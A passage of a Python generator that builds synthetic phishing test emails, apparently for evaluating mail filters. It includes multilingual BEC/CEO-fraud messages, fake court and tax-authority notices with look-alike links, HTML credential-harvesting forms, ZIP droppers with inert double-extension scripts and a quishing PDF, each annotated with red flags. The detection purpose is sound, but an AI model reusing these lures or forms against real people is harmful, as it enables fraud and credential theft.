     ("Subject", ew("Nowa przesyłka w skrzynce do doręczeń – Sąd Okręgowy w Warszawie", "windows-1250", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@stolarnia-kowalik.pl>" % h(s, "r", n=32)), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Dzień dobry,

do Twojej skrzynki do doręczeń elektronicznych AE:PL-58214-77391-WFHTS-21 wpłynęła nowa przesyłka.

Nadawca: Sąd Okręgowy w Warszawie, XXV Wydział Cywilny
Sygnatura: XXV C 1482/26
Rodzaj: postanowienie wraz z wezwaniem

Przesyłkę uznaje się za doręczoną po upływie 14 dni od daty jej wpływu do skrzynki. Odbierz przesyłkę: https://edoreczenia.gov.pl.skrzynka-odbiorcza.info/odbierz?id=58214

Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.
""", cs="windows-1250", cte="quoted-printable"),
        Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"></head><body style="font-family:Arial;font-size:14px">
<p><b>e-Doręczenia</b> – powiadomienie o nowej przesyłce</p>
<p>Dzień dobry,</p><p>do Twojej skrzynki do doręczeń elektronicznych <b>AE:PL-58214-77391-WFHTS-21</b> wpłynęła nowa przesyłka.</p>
<p>Nadawca: Sąd Okręgowy w Warszawie, XXV Wydział Cywilny<br>Sygnatura: XXV C 1482/26<br>Rodzaj: postanowienie wraz z wezwaniem</p>
<p>Przesyłkę uznaje się za doręczoną po upływie 14 dni od daty jej wpływu do skrzynki.</p>
<p><a href="https://edoreczenia.gov.pl.skrzynka-odbiorcza.info/odbierz?id=58214">Odbierz przesyłkę</a></p>
<p style="color:#777;font-size:11px">Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.</p></body></html>
""", "html", cs="windows-1250", cte="quoted-printable")]),
    relay=["Received: from [46.205.194.33] (helo=[192.168.0.104])\n\tby s108.cyber-folks.pl with esmtpsa (TLS1.3) tls TLS_AES_128_GCM_SHA256\n\t(Exim 4.97.1) (envelope-from <biuro@stolarnia-kowalik.pl>)\n\tid 1t%s-00000002Y4-%s; {DATE}" % (b32tok(s, "e", n=6), b32tok(s, "f", n=4))])

# ---------------------------------------------------------------- A24
s = "24-pl-ceo-fraud-onet-notariusz"
msg(A, s, "pl", "UTF-8 / QP", "CEO fraud: 'Warsaw office head' from an onet.pl address orders an urgent transfer to a 'notary'",
    "Partner impersonated from a free mailer (agnieszka.nowak.kancelaria@onet.pl); claims to be in a hearing with phone off; new payee; deadline today 14:00; confirmation to be sent to the same free address.",
    "katarzyna.kowalczyk@examplegroup.eu", "2026-12-01 11:42:30", "CET",
    ("smtpo88.poczta.onet.pl", "smtpo88.poczta.onet.pl", "213.180.149.141"), "agnieszka.nowak.kancelaria@onet.pl",
    [("From", addr("Agnieszka Nowak", "agnieszka.nowak.kancelaria@onet.pl")),
     ("To", "katarzyna.kowalczyk@examplegroup.eu"),
     ("Subject", "Pilne - przelew do 14:00"),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@poczta.onet.pl>" % (h(s, "o", n=20), hnum(s, "n", n=6))),
     ("X-Mailer", "Onet Poczta"), ("MIME-Version", "1.0")],
    Text("""Pani Kasiu,

jestem na rozprawie w Sądzie Okręgowym i mam wyłączony telefon, dlatego piszę z prywatnej skrzynki. Proszę o pilny przelew zaliczki na poczet taksy notarialnej i opłat sądowych za klienta (sprawa Wisła Development), najpóźniej do 14:00, inaczej akt nie zostanie dziś podpisany:

Odbiorca: Kancelaria Notarialna M. Jabłońska
Rachunek: %s
Kwota: 46 780,00 zł
Tytuł: zaliczka rep. A 8841/2026

Koszt rozliczymy z klientem w fakturze końcowej. Potwierdzenie przelewu proszę przesłać na ten adres – do skrzynki służbowej nie mam teraz dostępu.

Dziękuję
Agnieszka Nowak
""" % fmt_iban(IB["pl_notary_fake"]), cs="utf-8", cte="quoted-printable"))

# ---------------------------------------------------------------- A25
s = "25-pl-wezwanie-do-zaplaty-zip"
msg(A, s, "pl", "windows-1250 / 8bit + ZIP", "Malware dropper: 'final demand for payment' from a fake debt-collection law office with ZIP (inert .js)",
    "Unknown creditor, vague invoice reference, legal threat; sent from a dynamic UPC/Play broadband IP with a bare HELO; ZIP hides a double-extension script.",
    "agnieszka.nowak@example.com", "2026-11-06 06:58:41", "CET",
    ("[192.168.1.12]", "89-64-38-117.dynamic.chello.pl", "89.64.38.117"), "windykacja@lexdebt-kancelaria.pl",
    [("From", addr("Kancelaria Windykacyjna LexDebt", "windykacja@lexdebt-kancelaria.pl")),
     ("To", "agnieszka.nowak@example.com"),
     ("Subject", ew("Ostateczne przedsądowe wezwanie do zapłaty – FV/2026/0987", "windows-1250", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@lexdebt-kancelaria.pl>" % h(s, "m", n=20).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Szanowni Państwo,

działając w imieniu naszego Klienta, wzywamy do zapłaty kwoty 12 614,90 zł wynikającej z nieopłaconej faktury FV/2026/0987 wraz z odsetkami ustawowymi za opóźnienie w transakcjach handlowych, w terminie 3 dni od otrzymania niniejszego wezwania.

Szczegółowe zestawienie należności, kopia faktury oraz potwierdzenie wykonania usługi znajdują się w załączonym archiwum.

Brak zapłaty w wyznaczonym terminie spowoduje skierowanie sprawy na drogę postępowania sądowego oraz wpis do Krajowego Rejestru Długów, co narazi Państwa na dodatkowe koszty.

Z poważaniem
Dział Windykacji
Kancelaria LexDebt
""", cs="windows-1250", cte="8bit"),
        Att(zipf([("Wezwanie_FV_2026_0987_zestawienie.pdf.js", INERT.encode())]), "application/x-zip-compressed",
            "Wezwanie_FV_2026_0987.zip")]), delay=15)
# ---------------------------------------------------------------- A26
s = "26-es-agencia-tributaria-requerimiento"
msg(A, s, "es", "ISO-8859-1 / QP, HTML only", "Fake Agencia Tributaria notification ('requerimiento') linking to a fake Sede Electrónica",
    "AEAT notifies via DEHú/Sede Electrónica, e-mail only as notice without links to credential forms; sender domain notificaciones-aeat.es is fake; link uses sub-domain trick sede.agenciatributaria.gob.es.notificaciones-aeat.com; sent from a compromised server.",
    "lucia.fernandez@example.com", "2026-11-13 10:37:28", "CET",
    ("mail.reformasgarciaruiz.es", "static-147-83-201-88.ipcom.comunitel.net", "147.83.201.88"), "notificaciones@notificaciones-aeat.es",
    [("From", addr("Agencia Tributaria", "notificaciones@notificaciones-aeat.es")),
     ("To", "lucia.fernandez@example.com"),
     ("Subject", ew("Notificación electrónica: requerimiento de información – Ref. 2026GRC48817304Q", "iso-8859-1", "Q").replace("–", "-") if False else ew("Notificación electrónica: requerimiento de información - Ref. 2026GRC48817304Q", "iso-8859-1", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "notificaciones-aeat.es")), ("MIME-Version", "1.0")],
    Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="font-family:Arial;font-size:13px"><div style="max-width:620px;margin:auto;border-top:5px solid #9b1d20">
<p style="font-size:16px"><b>Agencia Tributaria</b> &middot; Sede Electrónica</p>
<p>Estimado/a contribuyente:</p>
<p>Le comunicamos que tiene a su disposición una notificación electrónica relativa al procedimiento de comprobación limitada (modelo 303, ejercicio 2025) del NIF B88421736.</p>
<p>Referencia: <b>2026GRC48817304Q</b><br>Órgano emisor: Delegación Especial de Madrid</p>
<p>Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo la notificación se entenderá practicada a todos los efectos legales (art. 43 de la Ley 39/2015).</p>
<p><a href="https://sede.agenciatributaria.gob.es.notificaciones-aeat.com/Sede/notificaciones?ref=2026GRC48817304Q">Acceder a la notificación</a> (Cl@ve, certificado electrónico o referencia)</p>
<p style="font-size:11px;color:#666">Este mensaje ha sido generado automáticamente. Por favor, no responda a este correo.</p>
</div></body></html>
""", "html", cs="iso-8859-1", cte="quoted-printable"),
    relay=["Received: from localhost (localhost [127.0.0.1])\n\tby mail.reformasgarciaruiz.es (Postfix) with ESMTPA id 4B91E2C0A7\n\tfor <lucia.fernandez@example.com>; {DATE}"])

# ---------------------------------------------------------------- A27
s = "27-es-lexnet-notificacion-html"
att27 = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>LexNET - Acceso profesional</title></head>
<body style="font-family:Arial;background:#eef1f5"><div style="width:420px;margin:60px auto;background:#fff;padding:30px">
<h2 style="color:#003d79">LexNET &middot; Ministerio de Justicia</h2>
<p>Para acceder al buzón de notificaciones sin certificado, verifique su identidad como colegiado/a.</p>
<form method="post" action="https://lexnet-justicia.net/acceso/verificar.php">
<p>Usuario (NIF): <input name="nif"></p><p>Contraseña: <input type="password" name="pw"></p>
<p>Colegio: <input name="icam" value="ICAM"></p><p><button>Acceder</button></p></form>
<!-- INERT TEST PLACEHOLDER - attack sample --></div></body></html>""").encode("utf-8")
msg(A, s, "es", "UTF-8 / 8bit + HTML attachment", "Fake LexNET (Spanish courts' e-notification system) notice with HTML credential-form attachment",
    "LexNET access requires the lawyer's qualified certificate - a password form is a tell; sender lexnet-notificaciones.com (real system is lexnet.justicia.es); sent from a DigitalOcean droplet; 3-day 'acto de comunicación' pressure.",
    "javier.martinez@example.com", "2026-11-18 08:05:33", "CET",
    ("lexnet-notificaciones.com", "mail.lexnet-notificaciones.com", "164.92.188.37"), "avisos@lexnet-notificaciones.com",
    [("From", addr("LexNET Justicia", "avisos@lexnet-notificaciones.com")),
     ("To", "javier.martinez@example.com"),
     ("Subject", ew("LexNET: Nuevo acto de comunicación pendiente – Juzgado de Primera Instancia nº 42 de Madrid", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "lexnet-notificaciones.com")), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Estimado/a profesional:

Tiene un nuevo acto de comunicación pendiente de acceso en su buzón LexNET.

Órgano: Juzgado de Primera Instancia nº 42 de Madrid
Procedimiento: Procedimiento Ordinario 1187/2026
Tipo: Notificación de resolución (Decreto)
Fecha de puesta a disposición: 18/11/2026 07:58

Conforme al art. 162 LEC, transcurridos tres días hábiles sin que se acceda a su contenido, la comunicación se entenderá realizada.

Se adjunta el acceso directo al buzón para su comodidad.

Ministerio de Justicia - Sistema LexNET
""", cs="utf-8", cte="8bit"),
        Att(att27, "text/html", "LexNET_Notificacion_1187-2026.html")]))

# ---------------------------------------------------------------- A28
s = "28-es-notaria-provision-fondos-lookalike"
msg(A, s, "es", "ISO-8859-15 / QP", "Notary-impersonation BEC: 'provisión de fondos' to a new IBAN from look-alike notarialopezpineda.com",
    "Genuine notary domain is notarialopezpineda.es; the .com look-alike on a cheap VPS asks for an urgent deposit to a different bank before the signing; Reply-To to a Gmail address.",
    "carmen.ruiz@examplegroup.eu", "2026-11-30 12:21:07", "CET",
    ("notarialopezpineda.com", "vps-2b7e91.ionos-servers.net", "217.160.47.118"), "rsanz@notarialopezpineda.com",
    [("From", addr("Rocío Sanz - Notaría López Pineda", "rsanz@notarialopezpineda.com", "iso-8859-15", "Q")),
     ("Reply-To", "notaria.lopezpineda@gmail.com"),
     ("To", addr("Carmen Ruiz", "carmen.ruiz@examplegroup.eu")),
     ("Subject", ew("Provisión de fondos – escritura de compraventa 3 de diciembre", "iso-8859-15", "Q").replace("\u2013", "-") if False else ew("Provisión de fondos - escritura de compraventa 3 de diciembre", "iso-8859-15", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "notarialopezpineda.com")), ("X-Mailer", "Microsoft Outlook 16.0"),
     ("MIME-Version", "1.0")],
    Text("""Estimada Carmen:

Para poder otorgar el próximo jueves 3 de diciembre la escritura de compraventa de la nave de Coslada (cliente Logística Henares, S.L.), les rogamos realicen la provisión de fondos de 18.740,00 ¤ para gastos, impuestos y suplidos antes del martes a las 14:00.

Les informamos de que, por un cambio de entidad bancaria de la notaría, la cuenta habitual de Santander ya no está operativa. Rogamos efectúen la transferencia a:

Titular: Notaría López Pineda
IBAN: %s
Concepto: PF 2026/2214 LOGISTICA HENARES

Les agradecería que me enviasen el justificante respondiendo a este correo.

Un cordial saludo,

Rocío Sanz
Oficial de notaría
Notaría López Pineda - C/ Velázquez 57, 28001 Madrid
""".replace("¤", "€") % fmt_iban(IB["es_notary_fake"]), cs="iso-8859-15", cte="quoted-printable"))

# ---------------------------------------------------------------- A29
s = "29-es-callback-santander-transferencia-retenida"
mx, rel = hotmail(s, "40.92.58.81")
msg(A, s, "es", "UTF-8 / QP", "Callback phishing: 'transfer held for verification' in the name of Banco Santander with a phone number",
    "Sent from an outlook.es free mailer with bank branding; no link - the victim is to call a number where fake bank staff obtain OTPs/remote access; references a plausible large transfer.",
    "lucia.fernandez@example.com", "2026-12-03 16:47:20", "CET", mx, "santander.empresas.avisos@outlook.es",
    [("From", addr("Santander Empresas", "santander.empresas.avisos@outlook.es")),
     ("To", "lucia.fernandez@example.com"),
     ("Subject", ew("Transferencia retenida por verificación de seguridad – 24.800,00 €", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<PA4P192MB%s%s@PA4P192MB%s.EURP192.PROD.OUTLOOK.COM>" % (hnum(s, "a", n=4), h(s, "m", n=24).upper(), hnum(s, "a", n=4))),
     ("Content-Language", "es-ES"), ("MIME-Version", "1.0")],
    Text("""Estimado cliente:

Le informamos de que la transferencia emitida desde su cuenta de empresa por importe de 24.800,00 € a favor de "INVERSIONES ALCORA 2021 S.L." ha quedado retenida por nuestro sistema de prevención del fraude.

Si usted no ha ordenado esta operación, o desea confirmarla, llame cuanto antes a nuestro Servicio de Seguridad Empresas en el 910 60 47 38 (lunes a sábado, de 8:00 a 22:00) indicando la referencia SEG-5521907. Por su seguridad, no responda a este correo.

Si no recibimos su confirmación en las próximas 4 horas, la operación se ejecutará automáticamente.

Atentamente,
Servicio de Seguridad Empresas
Banco Santander
""", cs="utf-8", cte="quoted-printable"), relay=rel)

# ---------------------------------------------------------------- A30
s = "30-es-ceo-fraud-whatsapp-gmail"
mx, rel = gmail(s, "carmen.ruiz@examplegroup.eu", "wm1-f47", "209.85.128.47")
msg(A, s, "es", "UTF-8 / QP, multipart/alternative", "CEO fraud first contact: 'Madrid partner' asks to move a confidential payment matter to WhatsApp",
    "Partner's name on a Gmail address; channel switch to WhatsApp (out of reach of the gateway) is the 2025-26 BEC pattern; secrecy about a 'confidential acquisition'.",
    "carmen.ruiz@examplegroup.eu", "2026-11-10 13:26:55", "CET", mx, "javiermartinez.abogado@gmail.com",
    [("From", addr("Javier Martínez", "javiermartinez.abogado@gmail.com", "utf-8", "Q")),
     ("To", "carmen.ruiz@examplegroup.eu"),
     ("Subject", "Consulta confidencial"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Hola Carmen,

¿Estás en la oficina? Necesito tu ayuda con un asunto confidencial relacionado con una adquisición que estamos cerrando y que todavía no puede conocerse internamente.

Estoy en una reunión con el cliente y no puedo hablar por teléfono. Escríbeme por WhatsApp al +34 641 28 73 90 y te explico lo que necesitamos para hoy.

Gracias,
Javier

Enviado desde mi iPhone
""", cs="UTF-8", cte="quoted-printable"),
        Text("""<div dir="auto">Hola Carmen,<br><br>¿Estás en la oficina? Necesito tu ayuda con un asunto confidencial relacionado con una adquisición que estamos cerrando y que todavía no puede conocerse internamente.<br><br>Estoy en una reunión con el cliente y no puedo hablar por teléfono. Escríbeme por WhatsApp al +34 641 28 73 90 y te explico lo que necesitamos para hoy.<br><br>Gracias,<br>Javier<br><br>Enviado desde mi iPhone</div>
""", "html", cs="UTF-8", cte="quoted-printable")], extra="gmail"),
    relay=rel)
# ---------------------------------------------------------------- A31
s = "31-el-aade-epistrofi-foroy"
msg(A, s, "el", "ISO-8859-7 / QP, HTML only", "Fake AADE (Greek tax authority) tax-refund notice asking to log in via a fake TAXISnet page",
    "Refund lure; sender aade-enimerosi.gr (real: aade.gr); link uses a sub-domain trick (www1.aade.gr.epistrofi-foroy.com) harvesting TAXISnet credentials and card data; sent through a compromised Greek web host.",
    "eleni.georgiou@example.com", "2026-11-06 11:20:47", "EET",
    ("server1.diakosmisi-ilias.gr", "srv-94-100-121-18.cloud.dnhost.gr", "94.100.121.18"), "enimerosi@aade-enimerosi.gr",
    [("From", addr("ΑΑΔΕ - Ανεξάρτητη Αρχή Δημοσίων Εσόδων", "enimerosi@aade-enimerosi.gr", "iso-8859-7", "B")),
     ("To", "eleni.georgiou@example.com"),
     ("Subject", ew("Επιστροφή φόρου: απαιτείται επιβεβαίωση στοιχείων λογαριασμού", "iso-8859-7", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "aade-enimerosi.gr")), ("MIME-Version", "1.0")],
    Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head>
<body style="font-family:Arial;font-size:14px"><div style="max-width:600px;margin:auto;border:1px solid #ccc;padding:20px">
<p style="color:#003476;font-size:18px"><b>ΑΑΔΕ</b> · Ανεξάρτητη Αρχή Δημοσίων Εσόδων</p>
<p>Αγαπητέ/ή φορολογούμενε/η,</p>
<p>Μετά την εκκαθάριση της δήλωσης φορολογίας εισοδήματος νομικών προσώπων για το φορολογικό έτος 2025, προέκυψε ποσό προς επιστροφή ύψους <b>1.846,20 €</b>.</p>
<p>Για να πιστωθεί το ποσό, πρέπει να επιβεβαιώσετε τα στοιχεία του τραπεζικού λογαριασμού (IBAN) εντός 5 εργάσιμων ημερών. Διαφορετικά η επιστροφή συμψηφίζεται με μελλοντικές οφειλές.</p>
<p style="text-align:center"><a href="https://www1.aade.gr.epistrofi-foroy.com/taxisnet/login?ref=EP2026-771902" style="background:#003476;color:#fff;padding:10px 22px;text-decoration:none">Είσοδος με κωδικούς TAXISnet</a></p>
<p style="font-size:11px;color:#666">Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.</p></div></body></html>
""", "html", cs="iso-8859-7", cte="quoted-printable"))

# ---------------------------------------------------------------- A32
s = "32-el-dsa-syndromi-enimerosi-stoixeion"
mx, rel = sendgrid(s, "dsa-melh.gr", "149.72.131.55")
msg(A, s, "el", "windows-1253 / base64", "Fake Athens Bar Association (ΔΣΑ) notice: update member data / pay dues or lose access to court e-services",
    "Bar branding but sender dsa-melh.gr via SendGrid (real: dsa.gr); link to a fake member portal collecting credentials and card data; threat of suspension of e-filing access.",
    "nikolaos.papadopoulos@example.com", "2026-11-26 10:14:33", "EET", mx,
    "bounces+29145032-9c1e-nikolaos.papadopoulos=example.com@em4102.dsa-melh.gr",
    [("From", addr("Δικηγορικός Σύλλογος Αθηνών", "members@dsa-melh.gr", "windows-1253", "B")),
     ("To", "nikolaos.papadopoulos@example.com"),
     ("Subject", ew("Ενημέρωση στοιχείων μέλους και εξόφληση εισφοράς 2026", "windows-1253", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@geopod-ismtpd-4>" % h(s, "sg", n=22)), ("MIME-Version", "1.0")],
    Text("""Αγαπητέ συνάδελφε,

Στο πλαίσιο της μετάβασης στο νέο ενιαίο Μητρώο Μελών, παρακαλούμε να επιβεβαιώσετε τα στοιχεία σας και να εξοφλήσετε την εκκρεμή ετήσια εισφορά 2026 (95,00 €) έως τις 30 Νοεμβρίου 2026.

Μετά την ημερομηνία αυτή, οι λογαριασμοί μελών που δεν έχουν ενημερωθεί θα απενεργοποιηθούν προσωρινά στις ηλεκτρονικές υπηρεσίες (έκδοση πιστοποιητικών, ηλεκτρονική κατάθεση δικογράφων).

Ενημέρωση στοιχείων: https://mitroo.dsa-melh.gr/melos/epivevaiosi?am=71824&src=mail

Με συναδελφικούς χαιρετισμούς
Η Γραμματεία του Δ.Σ.Α.
Ακαδημίας 60, 106 79 Αθήνα
""", cs="windows-1253", cte="base64"), relay=rel)

# ---------------------------------------------------------------- A33
s = "33-el-ktimatologio-html-attachment"
att33 = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Ελληνικό Κτηματολόγιο - Είσοδος</title></head>
<body style="font-family:Arial;background:#f4f6f8"><div style="width:400px;margin:60px auto;background:#fff;padding:28px">
<h3 style="color:#0b5394">Ελληνικό Κτηματολόγιο · e-Υπηρεσίες</h3>
<p>Για προβολή της ειδοποίησης μεταβολής απαιτείται πιστοποίηση.</p>
<form method="post" action="https://ktimatologio-eservices.info/auth/login.php">
<p>Email / Όνομα χρήστη<br><input name="u" value="dimitris.karagiannis@examplegroup.eu"></p>
<p>Κωδικός<br><input name="p" type="password"></p><button>Σύνδεση</button></form>
<!-- INERT TEST PLACEHOLDER - attack sample --></div></body></html>""").encode("utf-8")
msg(A, s, "el", "UTF-8 / base64 + HTML attachment", "Fake Hellenic Cadastre notice of a 'change to a registered right' with HTML login attachment",
    "Land-registry pretext aimed at a real-estate associate; sender ktimatologio-enimerwseis.gr (real: ktimatologio.gr) on a Hetzner server; HTML form pre-filled with the victim's address posts to an external host.",
    "dimitris.karagiannis@examplegroup.eu", "2026-11-17 09:02:11", "EET",
    ("mail.ktimatologio-enimerwseis.gr", "static.88.198.71.144.clients.your-server.de", "88.198.71.144"), "noreply@ktimatologio-enimerwseis.gr",
    [("From", addr("Ελληνικό Κτηματολόγιο", "noreply@ktimatologio-enimerwseis.gr", "utf-8", "B")),
     ("To", "dimitris.karagiannis@examplegroup.eu"),
     ("Subject", ew("Ειδοποίηση μεταβολής εγγραπτέου δικαιώματος – ΚΑΕΚ 050681203004", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "ktimatologio-enimerwseis.gr")), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Αξιότιμε/η κύριε/κυρία,

Σας ενημερώνουμε ότι καταχωρίστηκε αίτηση μεταβολής (εγγραφή υποθήκης) στο ακίνητο με ΚΑΕΚ 050681203004, για το οποίο έχετε δηλωθεί ως πληρεξούσιος δικηγόρος.

Αριθμός αίτησης: 2026/118447
Κτηματολογικό Γραφείο: Αθηνών

Εάν η μεταβολή δεν σας αφορά ή δεν έχει γίνει με τη συναίνεση του δικαιούχου, μπορείτε να υποβάλετε αντίρρηση εντός 10 ημερών. Τα στοιχεία της αίτησης βρίσκονται στο συνημμένο έγγραφο.

Ελληνικό Κτηματολόγιο
""", cs="utf-8", cte="base64"),
        Att(att33, "text/html", "Eidopoiisi_2026-118447.html")]))

# ---------------------------------------------------------------- A34
s = "34-el-bec-partner-lookalike-kypros"
msg(A, s, "el", "ISO-8859-7 / 8bit", "BEC: 'Athens office head' from look-alike examp1egroup.eu orders an urgent payment to a Cypriot IBAN",
    "Look-alike domain (digit 1 for l) of examplegroup.eu; payee is a Cyprus account for a 'notary/closing' cost; urgency and instruction to reply by e-mail only; sent from a rented VPS.",
    "eleni.georgiou@example.com", "2026-11-12 12:55:03", "EET",
    ("examp1egroup.eu", "vps-52b1c9.ip.linodeusercontent.com", "172.105.77.142"), "nikolaos.papadopoulos@examp1egroup.eu",
    [("From", addr("Νικόλαος Παπαδόπουλος", "nikolaos.papadopoulos@examp1egroup.eu", "iso-8859-7", "B")),
     ("To", addr("Ελένη Γεωργίου", "eleni.georgiou@example.com", "iso-8859-7", "B")),
     ("Subject", ew("Επείγον - πληρωμή σήμερα", "iso-8859-7", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "examp1egroup.eu")), ("X-Mailer", "Microsoft Outlook 16.0"),
     ("MIME-Version", "1.0")],
    Text("""Ελένη καλημέρα,

Είμαι σε σύσκεψη με τον πελάτη για το κλείσιμο της αγοραπωλησίας στη Λεμεσό και δεν μπορώ να μιλήσω στο τηλέφωνο. Χρειάζομαι να γίνει σήμερα, πριν κλείσουν οι τράπεζες, έμβασμα 38.600,00 € για τα έξοδα μεταβίβασης προς το γραφείο του συνεργάτη μας στην Κύπρο:

Δικαιούχος: Kyriakou & Pavlides LLC
IBAN: %s
BIC: HEBACY2N
Αιτιολογία: Closing costs - file 26/0441

Μόλις γίνει, στείλε μου το αποδεικτικό σε απάντηση αυτού του μηνύματος. Το θέμα είναι εμπιστευτικό μέχρι την υπογραφή, μην το συζητήσεις ακόμα με άλλους.

Ευχαριστώ,
Νίκος
""" % fmt_iban(IB["cy_fake"]), cs="iso-8859-7", cte="8bit"))

# ---------------------------------------------------------------- A35
s = "35-el-quishing-pdf-psifiaki-ypografi"
qr_url35 = "https://harica-cert-renew.com/q/np8841"
msg(A, s, "el", "UTF-8 / QP + PDF with embedded QR code", "Quishing inside a PDF: 'your qualified e-signature certificate expires - scan to renew'",
    "QR code (decodable) is embedded as an image inside the PDF to evade URL scanning of the mail body; domain harica-cert-renew.com imitates the Greek academic CA HARICA; sent via a bulk ESP (SendGrid); urgency before court filings.",
    "nikolaos.papadopoulos@example.com", "2026-12-02 09:41:27", "EET",
    ("o3.ptr8812.harica-cert-renew.com", "o3.ptr8812.harica-cert-renew.com", "159.183.224.18"),
    "bounces+48811290-1f0d-nikolaos.papadopoulos=example.com@em8812.harica-cert-renew.com",
    [("From", addr("HARICA Ψηφιακές Υπογραφές", "certificates@harica-cert-renew.com", "utf-8", "Q")),
     ("To", "nikolaos.papadopoulos@example.com"),
     ("Subject", ew("Λήξη εγκεκριμένου πιστοποιητικού ψηφιακής υπογραφής σε 3 ημέρες", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@geopod-ismtpd-9>" % h(s, "sg", n=22)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Αξιότιμε κύριε Παπαδόπουλε,

Το εγκεκριμένο πιστοποιητικό ψηφιακής υπογραφής σας (σειριακός αριθμός 4F:1A:88:02:C7) λήγει στις 05/12/2026. Μετά τη λήξη δεν θα μπορείτε να υπογράφετε ηλεκτρονικά δικόγραφα και έγγραφα.

Για ανανέωση χωρίς φυσική παρουσία, ανοίξτε το συνημμένο έγγραφο και σαρώστε τον κωδικό QR με το κινητό σας. Η διαδικασία διαρκεί λίγα λεπτά.

Με εκτίμηση,
Υπηρεσία Πιστοποιητικών
""", cs="utf-8", cte="quoted-printable"),
        Att(pdf(["HARICA - Qualified Certificate Renewal", "", "Certificate holder: Nikolaos Papadopoulos",
                 "Serial 4F:1A:88:02:C7 - expires 05/12/2026", "",
                 "Scan the QR code with your mobile phone to renew remotely.", "[PLACEHOLDER - attack sample]"],
                "Certificate renewal", qr=qr_url35), "application/pdf", "Ananeosi_Pistopoiitikou.pdf")]))
MESSAGES[-1]["qr"] = qr_url35
# ---------------------------------------------------------------- A36
s = "36-ru-gosuslugi-sudebnoe-uvedomlenie"
msg(A, s, "ru", "KOI8-R / QP", "Fake Gosuslugi notice of a 'court notification' with a link to a fake ESIA login",
    "Gosuslugi branding, but sender gosuslugi-uvedomleniya.ru (real: gosuslugi.ru) on a VPS; link to esia.gosuslugi.ru.lk-vhod.com (sub-domain trick) to steal ESIA credentials and SMS codes; court-summons fear.",
    "irina.kuznetsova@example.com", "2026-11-09 10:26:18", "MSK",
    ("mail.gosuslugi-uvedomleniya.ru", "v1847213.hosted-by-vdsina.ru", "89.110.68.214"), "no-reply@gosuslugi-uvedomleniya.ru",
    [("From", addr("Госуслуги", "no-reply@gosuslugi-uvedomleniya.ru", "koi8-r", "B")),
     ("To", "irina.kuznetsova@example.com"),
     ("Subject", ew("Вам направлено судебное извещение", "koi8-r", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "gosuslugi-uvedomleniya.ru")), ("MIME-Version", "1.0")],
    Text("""Здравствуйте, Ирина Сергеевна!

В ваш личный кабинет на портале Госуслуг поступило судебное извещение.

Отправитель: Мещанский районный суд города Москвы
Дело: 02-7714/2026
Тип документа: судебная повестка

Ознакомиться с документом необходимо в течение 3 дней. В случае неявки дело может быть рассмотрено в ваше отсутствие.

Открыть документ: https://esia.gosuslugi.ru.lk-vhod.com/login/?doc=02-7714-2026

Это автоматическое уведомление, отвечать на него не нужно.
Портал государственных услуг Российской Федерации
""", cs="koi8-r", cte="quoted-printable"))

# ---------------------------------------------------------------- A37
s = "37-ru-fns-trebovanie-zip"
msg(A, s, "ru", "windows-1251 / base64 + ZIP", "Malware dropper: fake Federal Tax Service 'demand for documents' with a ZIP (inert .js)",
    "The FNS sends demands via TKS/EDI operators, not e-mail archives; sender nalog-trebovanie.ru (real: nalog.gov.ru); residential Rostelecom IP; deadline pressure; ZIP hides a script behind a .pdf-like name.",
    "olga.smirnova@examplegroup.eu", "2026-11-20 09:48:51", "MSK",
    ("WIN-QK3P8H1", "broadband-95-84-198-12.ip.moscow.rt.ru", "95.84.198.12"), "trebovanie@nalog-trebovanie.ru",
    [("From", addr("ФНС России - Инспекция №5", "trebovanie@nalog-trebovanie.ru", "windows-1251", "B")),
     ("To", "olga.smirnova@examplegroup.eu"),
     ("Subject", ew("Требование о представлении документов (информации) № 14-12/48817", "windows-1251", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s$%s@WIN-QK3P8H1>" % (h(s, "a", n=12).upper(), h(s, "b", n=8).upper())),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Уважаемый налогоплательщик!

В соответствии со статьей 93.1 Налогового кодекса Российской Федерации Вам направляется требование о представлении документов (информации) в рамках проведения мероприятий налогового контроля в отношении контрагента.

Документы необходимо представить в течение 5 рабочих дней со дня получения требования. Непредставление документов в установленный срок влечет ответственность по статье 126 НК РФ.

Текст требования и перечень документов - во вложении.

Инспекция ФНС России № 5 по г. Москве
""", cs="windows-1251", cte="base64"),
        Att(zipf([("Trebovanie_14-12_48817.pdf.js", INERT.encode())]), "application/zip",
            "Требование_14-12_48817.zip", fn_cs="windows-1251")]), delay=10)

# ---------------------------------------------------------------- A38
s = "38-ru-moy-arbitr-opredelenie"
